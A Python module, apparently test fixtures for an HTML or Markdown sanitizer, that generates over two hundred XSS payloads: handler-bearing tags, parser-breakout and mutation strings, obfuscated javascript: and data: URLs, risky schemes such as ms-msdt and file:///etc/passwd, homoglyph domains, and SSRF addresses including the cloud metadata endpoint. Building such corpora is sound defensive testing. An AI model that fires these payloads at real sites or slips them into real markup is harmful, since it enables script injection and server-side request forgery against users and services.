"""Markup and addresses that do harm where a page takes them as they are, made by rule."""

TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
        "iframe src=x", "object data=x", "marquee", "select autofocus", "math", "a href=x", "form",
        "style", "link rel=stylesheet href=x", "table background=x", "x", "p", "button"]
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationstart"]
CALLS = ["alert(1)", "\"alert(1)\"", "'alert`1`'", "&#97;lert(1)", "top['al'+'ert'](1)"]

# Texts that end what they stand in, or begin something that swallows what follows.
BREAKS = [
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
    "--><img src=x onerror=alert(1)>", "--!><img src=x onerror=alert(1)>", "<!--><svg onload=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?x <img src=x onerror=alert(1)> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><template><script>alert(1)</script></template></desc></svg>",
    "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>", "<listing>&lt;img onerror=alert(1) src&gt;</listing>", "<select><script>x</script>",
    "<frameset onload=alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;x>",
    "<meta charset=utf-7>+ADw-script+AD4-", "<isindex action=javascript:alert(1) type=image>",
    "<a href=\"x\" style=\"x:expression(alert(1))\">x</a>", "<div style=\"background:url(//e.example)\">",
    "<p style='position:fixed;inset:0'>x</p>", "<b id=getElementById>x</b>", "<a name=cookie>x</a>",
    "<img name=body><img name=documentElement>", "<form id=x><input name=attributes></form>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=//e.example></foreignObject></svg>",
    "<embed src=//e.example/x.swf>", "<applet code=x>", "<object><param name=src value=x></object>",
    "<img srcset='//e.example/x 1x'>", "<img src=\"//e.example/x\">", "<video poster=//e.example/x>",
    "<input type=image src=//e.example/x>", "<link rel=prefetch href=//e.example>", "<a ping=//e.example>",
    "<script src=//e.example/x></script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\x0b=alert(1)>",
    "<img src='x'onerror=alert(1)>", "<img \x09src=x\x0conerror=alert(1)>", "<a/href=javascript&colon;x>x",
    "<img src=x:alert(alt) onerror=eval(src) alt=x>", "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript>x", "\uff1cscript\uff1ex", "%3Cscript%3E",
    "`<script>alert(1)</script>`", "**<script>alert(1)</script>**", "[<img src=x onerror=alert(1)>](x)",
    "![x\" onerror=\"alert(1)](x)", "[x](x \"\\\" onclick=alert(1) \\\"\")", "[x](<x\" onclick=\"alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]", "[x](https://e.org/'onclick='x)", "| <svg/onload=x> |\n|--|\n| x |",
    "<https://e.org/\"onclick=\"x>", "[a](https://e.org)<img src=x onerror=x>", "\\<script>alert(1)</script>",
    "{{{x}}}<script>x</script>", "a<br onclick=x>b", "<b onclick=x>y</b>", "<em style=x>y</em>"]

URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#9;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "&#0000106avascript:x",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#58alert(1)", "\x01javascript:x",
    " javascript:x", "javascript:\\u0061lert(1)", "javascript://e.org/%0Aalert(1)", "vbscript:msgbox(1)",
    "VBScript:x", "data:text/html,<script>x</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=x>", "DATA:,x", "livescript:x", "mocha:x", "view-source:javascript:x",
    "feed:javascript:x", "jar:http://e.org!/x", "blob:https://e.org/x", "file:///etc/passwd",
    "\u2028javascript:x", "java\u00adscript:x", "\ufeffjavascript:x", "ja\u200bvascript:x",
    "%6Aavascript:x", "javascript%3Ax", "//javascript:x", "x:javascript:x"]

SCHEMES = [
    "https://e.org/a", "http://e.org/a", "mailto:a@e.org", "tel:+41790000000", "ftp://e.org/a",
    "ftps://e.org", "file:///etc/passwd", "ssh://e.org", "git://e.org", "data:text/plain,x",
    "javascript:alert(1)", "vbscript:x", "about:blank", "blob:https://e.org/x", "ws://e.org",
    "chrome://settings", "ms-word:ofe|u|https://e.org", "ms-msdt:/id PCWDiagnostic", "search-ms:query=x",
    "smb://e.org/share", "\\\\e.org\\share", "ldap://e.org", "intent://e.org#Intent;end", "sms:+41",
    "skype:x?call", "https://user:pw@e.org/", "https://аррӏе.com/", "https://xn--80ak6aa92e.com/",
    "https://e.org\u3002cn/", "https://e.org/\u202egnp.exe", "//e.org/a", "x-custom:1"]

REMOTE = [
    "http://192.0.2.1/a.png", "https://192.0.2.1/a.png", "http://[2001:db8::1]/a.png",
    "http://localhost/a.png", "http://127.0.0.1:1/a", "http://169.254.169.254/latest/meta-data/",
    "http://0/a", "http://2130706433/a", "http://0x7f.1/a", "//192.0.2.1/a.css", "http://example.org/a.woff2",
    "https://example.org/a.css", "HTTP://EXAMPLE.ORG/a", "ftp://example.org/a", "file://192.0.2.1/share/a",
    "\\\\192.0.2.1\\share\\a", "gopher://192.0.2.1/a", "dict://192.0.2.1:1/a", "ldap://192.0.2.1/a",
    "http:/192.0.2.1/a", "http:\\\\192.0.2.1\\a", "http://user:pw@192.0.2.1/a", "http://192.0.2.1:80/a?b#c",
    "https://xn--80ak6aa92e.com/a", "http://example.org%2fa", "tcp://192.0.2.1:9", "smb://192.0.2.1/a"]


def scripts():
    """Tags with handlers, and texts that break out: more than two hundred."""
    rules = [f"<{tag} {HANDLERS[(i + j) % len(HANDLERS)]}={CALLS[(i + 2 * j) % len(CALLS)]}>x"
             for i, tag in enumerate(TAGS) for j in range(7)]
    return list(dict.fromkeys(rules + BREAKS))


# One of each kind, for rows that try other strings too.
STRINGS = BREAKS + [f"[x]({url})" for url in URLS] + SCHEMES
